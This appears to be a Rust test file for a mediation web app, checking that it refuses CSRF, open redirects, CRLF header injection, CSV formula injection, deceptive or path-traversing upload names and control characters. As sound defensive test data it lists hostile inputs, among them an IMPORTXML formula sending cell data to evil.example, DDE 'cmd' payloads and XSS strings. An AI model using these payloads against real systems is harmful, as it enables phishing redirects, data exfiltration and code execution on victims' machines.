        row("a bad percent escape", Who::Consumer, Req::Body(path.clone(), "application/x-www-form-urlencoded", b"audience=everyone&body=%ZZ%".to_vec()), 403, msg("error-page-csrf"), Stores::Nothing),
        row("an unknown audience", Who::Consumer, form(path.clone(), &[("audience", "caucus_everyone"), ("body", "hello")]), 422, msg("error-choice-unknown"), Stores::Nothing),
        row("the other side's caucus", Who::Consumer, form(path.clone(), &[("audience", "caucus_trader"), ("body", "hello")]), 403, msg("error-page-forbidden"), Stores::Nothing),
        row("a body shorter than its length", Who::Nobody, Req::Raw(cut, false), 400, Says::Contains(String::new()), Stores::Nothing),
        row("a form body that stalls half way", Who::Nobody, w.raw_post_as(Who::Consumer, &path, "application/x-www-form-urlencoded", 500, b"audience=everyone&body=hal", true), 408, Says::Contains(concilia::i18n::t("en", "error-page-body-timeout").replace('\'', "&#x27;")), Stores::Nothing),
        row("a JSON body that stalls half way", Who::Nobody, Req::Raw(b"POST /api/v1/session HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"email\":".to_vec(), true), 408, Says::Contains("\"code\":\"body_timeout\"".into()), Stores::Nothing),
        row("an upload whose closing boundary never comes", Who::Nobody, w.raw_post_as(Who::Consumer, &format!("/cases/{}/documents", w.id), "multipart/form-data; boundary=XyZ", 100_000, &w.multipart_head(), true), 408, Says::Contains(concilia::i18n::t("en", "error-page-body-timeout").replace('\'', "&#x27;")), Stores::Nothing),
        row("more files in one upload than allowed", Who::Consumer, Req::Upload(format!("/cases/{}/documents", w.id), vec![("audience".into(), "everyone".into())], (0..6).map(|i| (format!("r{i}.pdf"), PDF.to_vec())).collect()), 422, msg("error-too-many-files"), Stores::Nothing),
        row("a multipart body without its closing boundary", Who::Consumer, Req::Upload(format!("/cases/{}/documents", w.id), vec![], vec![]), 422, msg("error-file-required"), Stores::Nothing),
    ]
}

#[tokio::test]
async fn forms_without_their_own_csrf_token_and_bad_bodies_are_refused() {
    let w = world().await;
    let mut rows = csrf_rows(&w).await;
    rows.extend(body_rows(&w));
    check(&w, rows).await;
}

/// Where people may be sent after signing in or switching language: only a path of this
/// site, and never a header split or a scheme.
#[rustfmt::skip]
fn redirect_rows(w: &World) -> Vec<Row> {
    // As they would stand in a link's query string, percent-encoding and all.
    let hostile = ["//evil.example", "///evil.example", "/%5Cevil.example", "%5C%5Cevil.example", "/%2F/evil.example", "%20//evil.example", "https://evil.example/", "https:evil.example", "http:/%5Cevil.example", "HTTPS://evil.example", "javascript:alert(document.cookie)", "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E", "evil.example", "%40evil.example", ""];
    let mut rows = Vec::new();
    for next in hostile {
        rows.push(row(format!("signed in, next={next:?}"), Who::Consumer, Req::Get(format!("/signin?next={next}")), 303, Says::Redirect("/dashboard".into()), Stores::Nothing));
    }
    // A tab, a line break or a NUL in the query is refused before anything reads it.
    for next in ["/%09/evil.example", "/%0a/evil.example", "/%0d/evil.example", "%09//evil.example", "/%00/evil.example", "/%0d%0aSet-Cookie:%20owned=1", "/%0aLocation:%20//evil.example", "/%0d%0a%0d%0a<script>alert(1)</script>"] {
        for who in [Who::Consumer, Who::Nobody] {
            rows.push(row(format!("{who:?}, next={next:?}"), who, Req::Get(format!("/signin?next={next}")), 400, msg("error-invalid-characters"), Stores::Nothing));
        }
    }
    // Odd but harmless paths may be kept; wherever they lead, it is this site.
    for next in ["/%E3%80%80/evil.example", "/%EF%BC%8Fevil.example", "/cases/%2F%2Fevil.example", "/a/../..//evil.example", "/.//evil.example", "/..//evil.example", "/./%2F/evil.example", "/%2e//evil.example"] {
        rows.push(row(format!("signed in, next={next:?} stays on this site"), Who::Consumer, Req::Get(format!("/signin?next={next}")), 303, Says::LocalRedirect, Stores::Nothing));
    }
    for next in ["//evil.example", "/\t/evil.example", "https://evil.example"] {
        rows.push(row(format!("language switch, next={next:?}"), Who::Nobody, form("/language", &[("language", "en"), ("next", next)]), 303, Says::Redirect("/dashboard".into()), Stores::Nothing));
    }
    // What is a path of this site survives, with its query.
    let own = format!("/cases/{}?notice=step-done", w.id);
    let enc: String = url::form_urlencoded::byte_serialize(own.as_bytes()).collect();
    rows.push(row("signed in, next is a page of this site", Who::Consumer, Req::Get(format!("/signin?next={enc}")), 303, Says::Redirect(own.clone()), Stores::Nothing));
    rows
}

#[tokio::test]
async fn redirects_go_only_to_paths_of_this_site() {
    let w = world().await;
    check(&w, redirect_rows(&w)).await;
}

/// What a spreadsheet would run as a formula.
const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://example.org/?x=\"&A1,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "  =IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
];

#[tokio::test]
async fn formulas_typed_into_a_case_never_reach_a_spreadsheet_as_formulas() {
    let w = world().await;
    for f in FORMULAS {
        let mut steps = crate::cases::answers();
        let name: &'static str = Box::leak(f.to_string().into_boxed_str());
        steps[0].1[0] = ("trader_name", name);
        steps[1].1[2] = ("purchase_description", name);
        crate::cases::file_case_with(&w.app, &w.cast.consumer, steps).await;
    }
    let year = chrono::Utc::now().format("%Y");
    for path in [
        format!("/reports?kind=annual&from={year}-01-01&to={year}-12-31&format=csv"),
        format!("/reports?kind=biennial&from={year}-01-01&to={year}-12-31&format=csv"),
    ] {
        let (status, _, body) = w.send(Who::Staff, &Req::Get(path.clone())).await;
        assert_eq!(status, 200, "{path}");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(body.as_bytes());
        let mut names = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let first = cell.chars().next();
                // A number may be negative; any other text must not open as a formula.
                if cell.parse::<f64>().is_err() {
                    assert!(
                        !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                        "{path}: a cell opens as a formula: {cell:?}"
                    );
                }
                if cell.contains("HYPERLINK") || cell.contains("cmd|") {
                    names += 1;
                }
            }
        }
        assert!(
            names >= 4,
            "{path}: the traders' names are in the export ({names})"
        );
    }
}

/// Names meant to mislead (right-to-left overrides, invisible characters) or to escape the
/// store (paths, reserved device names): the file is kept under a plain name.
const ODD_NAMES: &[&str] = &[
    "photo\u{202e}gnp.exe\u{202c}.pdf",
    "invoice\u{2067}fdp.exe\u{2069}.pdf",
    "re\u{200b}ceipt\u{200d}\u{2060}\u{feff}.pdf",
    "\u{200e}\u{200f}\u{061c}receipt.pdf",
    "../../../../etc/passwd.pdf",
    "..\\..\\windows\\win.ini.pdf",
    "/absolute/path.pdf",
    "CON.pdf",
    "receipt.pdf. . ",
    "\u{85}next line\u{2028}\u{2029}.pdf",
    "<img src=x onerror=alert(1)>.pdf",
    "\"; filename=evil.exe; x=\".pdf",
];

#[tokio::test]
async fn file_names_that_hide_what_they_are_are_shown_plainly() {
    let w = world().await;
    let long = format!("{}.pdf", "é".repeat(400));
    let mut rows = Vec::new();
    for name in ODD_NAMES.iter().copied().chain([long.as_str()]) {
        rows.push(row(
            format!("upload named {name:?}"),
            Who::Consumer,
            Req::Upload(
                format!("/cases/{}/documents", w.id),
                vec![("audience".into(), "everyone".into())],
                vec![(name.to_string(), PDF.to_vec())],
            ),
            303,
            Says::Redirect(format!(
                "/cases/{}/documents?notice=documents-added#main",
                w.id
            )),
            Stores::Something,
        ));
    }
    check(&w, rows).await;
    let id = w.id.clone();
    let docs = w
        .app
        .db(move |c| {
            db::case_file::documents(
                c,
                &id,
                &[concilia::domain::cases::codes::Audience::Everyone],
            )
        })
        .await;
    assert_eq!(
        docs.len(),
        ODD_NAMES.len() + 2,
        "each upload kept once, with the first"
    );
    let page = w
        .send(Who::Trader, &Req::Get(format!("/cases/{}", w.id)))
        .await
        .2;
    for d in &docs {
        let name = &d.file_name;
        assert!(!name.chars().any(|c| c.is_control() || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{061c}' | '\u{2028}' | '\u{2029}')), "{name:?} keeps an invisible or control character");
        assert!(
            !name.contains('/') && !name.contains('\\'),
            "{name:?} keeps a path"
        );
        assert!(!name.is_empty() && name.chars().count() <= 255, "{name:?}");
        assert!(name.ends_with(".pdf"), "{name:?} keeps its ending");
        // The download names the file safely, whatever it was called.
        let res = w
            .cast
            .consumer
            .get(&w.app, &format!("/cases/{}/documents/{}", w.id, d.id))
            .await;
        assert_eq!(res.status(), 200);
        let disposition = res.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .to_string();
        assert!(disposition.starts_with("attachment"), "{disposition}");
        assert!(!disposition.contains("evil.exe;"), "{disposition}");
    }
    assert!(!page.contains('\u{202e}') && !page.contains('\u{2067}'));
    assert!(!page.contains("<img src=x onerror"));
}

/// NUL and the other control characters that have no place in text, wherever text comes in:
/// refused before anything reads it, the same way on both backends.
#[rustfmt::skip]
async fn control_rows(w: &World) -> Vec<Row> {
    let id = &w.id;
    let res = w.cast.consumer.post(&w.app, "/cases", &[]).await;
    let draft = crate::helpers::location(&res).trim_start_matches("/cases/").split('/').next().unwrap().to_string();
    let page = |name: &str, who: Who, req: Req| row(name, who, req, 400, msg("error-invalid-characters"), Stores::Nothing);
    let api = |name: &str, req: Req| row(name, Who::Nobody, req, 400, Says::Code("invalid_characters"), Stores::Nothing);
    let token = w.app.api_token("clara@example.org").await;
    let message = |body: &str| form(format!("/cases/{id}/messages"), &[("audience", "everyone"), ("body", body)]);
    vec![
        api("NUL in the sign-in email", json("/api/v1/session", r#"{"email":"x\u0000@example.com","password":"p"}"#)),
        api("NUL in the sign-in password", json("/api/v1/session", r#"{"email":"clara@example.org","password":"a\u0000b"}"#)),
        api("NUL in a JSON key", json("/api/v1/session", r#"{"em\u0000ail":"clara@example.org","password":"p"}"#)),
        api("NUL in an API message", Req::Bearer("POST", format!("/api/v1/cases/{id}/messages"), token.clone(), Some(r#"{"audience":"everyone","body":"a\u0000b"}"#.into()))),
        api("ESC in an API message", Req::Bearer("POST", format!("/api/v1/cases/{id}/messages"), token.clone(), Some(r#"{"audience":"everyone","body":"\u001b[31mred"}"#.into()))),
        api("NUL in an API case id", Req::Bearer("GET", "/api/v1/cases/%00".into(), token.clone(), None)),
        api("NUL in an API list filter", Req::Bearer("GET", "/api/v1/cases?q=%00".into(), token.clone(), None)),
        page("NUL in the sign-in form", Who::Nobody, form("/signin", &[("email", "x\0@example.com"), ("password", "p"), ("next", "/dashboard")])),
        page("NUL in a sign-up name", Who::Nobody, form("/signup", &[("name", "Eve\0"), ("email", "eve@example.org"), ("password", PASSWORD), ("password_confirm", PASSWORD), ("language", "en")])),
        page("NUL in a password reset request", Who::Nobody, form("/password/forgot", &[("email", "clara@example.org\0")])),
        page("NUL in a case id", Who::Consumer, Req::Get("/cases/%00".into())),
        page("NUL after a case id", Who::Consumer, Req::Get(format!("/cases/{id}%00"))),
        page("NUL in a document id", Who::Consumer, Req::Get(format!("/cases/{id}/documents/%00"))),
        page("NUL in the search", Who::Staff, Req::Get("/cases?q=washing%00".into())),
        page("NUL in the state filter", Who::Staff, Req::Get("/cases?state=%00".into())),
        page("NUL in a report period", Who::Staff, Req::Get("/reports?kind=annual&from=2026-01-01%00&to=2026-12-31".into())),
        page("NUL in a message", Who::Consumer, message("hello\0world")),
        page("SOH in a message", Who::Consumer, message("hello\u{1}world")),
        page("ESC in a message", Who::Consumer, message("\u{1b}[2J\u{1b}[31mred")),
        page("backspace in a message", Who::Consumer, message("paid\u{8}\u{8}\u{8}\u{8}unpaid")),
        page("DEL in a message", Who::Consumer, message("a\u{7f}b")),
        page("a C1 control in a message", Who::Consumer, message("a\u{9b}31mb")),
        page("NUL in a step's reason", Who::Mediator, form(format!("/cases/{id}/steps/extend"), &[("days", "30"), ("reason", "more\0time")])),
        page("NUL in the trader's name", Who::Consumer, form(format!("/cases/{draft}/draft/trader"), &[("trader_name", "Shop\0"), ("trader_email", "shop@example.org"), ("trader_country", "BG"), ("trader_address", "Sofia")])),
        page("NUL in the dispute's description", Who::Consumer, form(format!("/cases/{draft}/draft/details"), &[("description", "It broke.\0"), ("language", "en"), ("consumer_country", "BG"), ("not_elsewhere", "on")])),
        page("NUL in a hearing's place", Who::Mediator, form(format!("/cases/{id}/hearings"), &[("date", "2027-01-15"), ("time", "10:00"), ("time_zone", "Europe/Sofia"), ("duration_minutes", "60"), ("form", "in_person"), ("place", "Room\0 1")])),
        page("NUL in an offer's amount", Who::Trader, form(format!("/cases/{id}/proposals"), &[("item1_kind", "payment"), ("item1_side", "trader"), ("item1_amount", "10\0"), ("item1_currency", "EUR"), ("item1_due_on", "2027-01-15")])),
        page("NUL in a training course", Who::Mediator, form("/training", &[("title", "Course\0"), ("provider", "ADR Academy"), ("started_on", "2025-03-10"), ("ended_on", "2025-03-11"), ("hours", "7")])),
        page("NUL in a report's text", Who::Staff, form("/reports/texts", &[("kind", "annual"), ("from", "2026-01-01"), ("to", "2026-12-31"), ("recommendations", "x\0"), ("cooperation", ""), ("assessment", "")])),
        page("NUL in an organisation's name", Who::Staff, form("/admin/organisations", &[("name", "Org\0"), ("registration_number", "123"), ("contact_email", "org@example.org"), ("sector", "Retail"), ("country", "BG"), ("address", "Sofia")])),
        page("NUL in a holiday's name", Who::Staff, form("/admin/holidays", &[("country", "BG"), ("day", "2027-03-03"), ("name", "Liberation\0 Day")])),
        row("NUL in an evidence title", Who::Consumer, Req::Upload(format!("/cases/{id}/documents"), vec![("audience".into(), "everyone".into()), ("title".into(), "a\0b".into())], vec![("receipt.pdf".into(), PDF.to_vec())]), 422, msg("error-invalid-characters"), Stores::Nothing),
        row("control characters in an evidence file name", Who::Consumer, Req::Upload(format!("/cases/{id}/documents"), vec![("audience".into(), "everyone".into())], vec![("a\u{0}b\u{1}c.pdf".into(), PDF.to_vec())]), 400, msg("error-page-bad-request"), Stores::Nothing),
    ]
}

#[tokio::test]
async fn nul_and_control_characters_are_refused_wherever_text_comes_in() {
    let w = world().await;
    let rows = control_rows(&w).await;
    check(&w, rows).await;
    // Line breaks and tabs are text: a message with them is kept.
    let res = w
        .cast
        .consumer
        .post(
            &w.app,
            &format!("/cases/{}/messages", w.id),
            &[
                ("audience", "everyone"),
                ("body", "line one\r\nline two\n\tindented"),
            ],
        )
        .await;
    assert_eq!(res.status(), 303);
}
